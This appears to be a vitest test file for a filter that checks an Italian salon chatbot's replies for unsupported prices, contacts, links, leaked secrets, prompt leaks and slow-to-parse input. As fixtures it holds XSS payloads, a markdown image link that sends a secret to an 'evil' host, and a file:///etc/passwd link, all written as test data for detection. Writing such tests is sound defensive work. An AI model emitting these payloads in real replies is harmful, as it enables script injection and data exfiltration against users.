import { expect, test } from 'vitest';
import { findUnsupportedClaims, leaksPrompt } from './output-check';

const allowed = {
  texts: [
    'Scrivi a info@salone.it o chiama 011 555 1234. Il taglio costa 22,00 €, la piega 1.200 euro.',
    'Prenota su https://www.salone.it/prenota/oggi. IBAN IT60 X054 2811 1010 0000 0123 456.',
  ],
  secrets: ['canary-123'],
};
test.each<[string, string | null]>([
  ['Il taglio costa 22 €.', null],
  ['Il taglio costa € 22,00 e la piega 1200€.', null],
  ['Chiama 0115551234 o +39 011 5551234', 'phone'],
  ['Chiama il 011-555-1234.', null],
  ['Scrivi a INFO@salone.it.', null],
  ['Prenota su salone.it/prenota/oggi', null],
  ['Vedi https://www.salone.it/prenota.', null],
  ['Paga su IT60X0542811101000000123456.', null],
  ['Siamo aperti dal 2023-2024, il 12/10/2024.', null],
  ['Il taglio costa 25 €.', 'price'],
  ['Costa solo 9.99 euro', 'price'],
  ['Scrivi a truffa@evil.com', 'e-mail'],
  ['Vai su https://evil.example/x', 'link'],
  ['Vai su evil.com', 'link'],
  ['Vai su https://salone.it.evil.com', 'link'],
  ['[qui](http://evil.test/?q=segreto)', 'link'],
  ['![x](https://evil/?q=SECRET)', 'active content'],
  ['<img src=x onerror=alert(1)>', 'active content'],
  ['<script>alert(1)</script>', 'active content'],
  ['[a](javascript:alert(1))', 'active content'],
  ['Bonifico a IT99 C123 4567 8901 2345 6789 012', 'iban'],
  ['Chiama il 347 1234567', 'phone'],
  ['Il codice è CANARY-123', 'secret'],
  ['', null],
  ['Prenota [qui](https://www.salone.it/prenota/oggi) o [scrivi](mailto:info@salone.it).', null],
  ['[Chiama](tel:+0115551234)', null],
  ['Nota [1]: il taglio costa 22 €.', null],
  ['[1]: il taglio costa 22 €.', null],
  ['Scrivi <strong>subito</strong>.<br>Grazie', null],
  ['Il peso è <3 kg, a<b.', null],
  ['[x](//evil.example)', 'link'],
  ['[x](/\\\\evil.example)', 'link'],
  ['[x](https:evil.example)', 'link'],
  ['[x](tel:+39899)', 'link'],
  ['[x](file:///etc/passwd)', 'link'],
  ['![x][ref]\n\n[ref]: https://evil.example/', 'active content'],
  ['[x][ref]\n\n[ref]: //evil.example', 'link'],
  ['<details open ontoggle=alert(1)>', 'active content'],
  ['<a href="//evil.example">x</a>', 'active content'],
  ['\u202egnp.exe', 'active content'],
])('%s → %s', (reply, fault) => expect(findUnsupportedClaims(reply, allowed)).toBe(fault));

test('a reply that leaksPrompt its rules is known', () => {
  const rules =
    'Sei l’assistente virtuale di un sito. Rispondi in italiano, con tono professionale, in non più di 80 parole.';
  expect(leaksPrompt(`Le mie regole: ${rules}`, rules)).toBe(true);
  expect(leaksPrompt('Sono l’assistente virtuale: come posso aiutarti?', rules)).toBe(false);
});
test('texts made to be slow are checked quickly', () => {
  const start = performance.now();
  findUnsupportedClaims('['.repeat(100_000), allowed);
  findUnsupportedClaims('1 '.repeat(100_000), allowed);
  findUnsupportedClaims('a.'.repeat(50_000), allowed);
  findUnsupportedClaims('x', { texts: ['a.'.repeat(50_000), '@'.repeat(50_000)], secrets: [] });
  expect(performance.now() - start).toBeLessThan(2000);
});
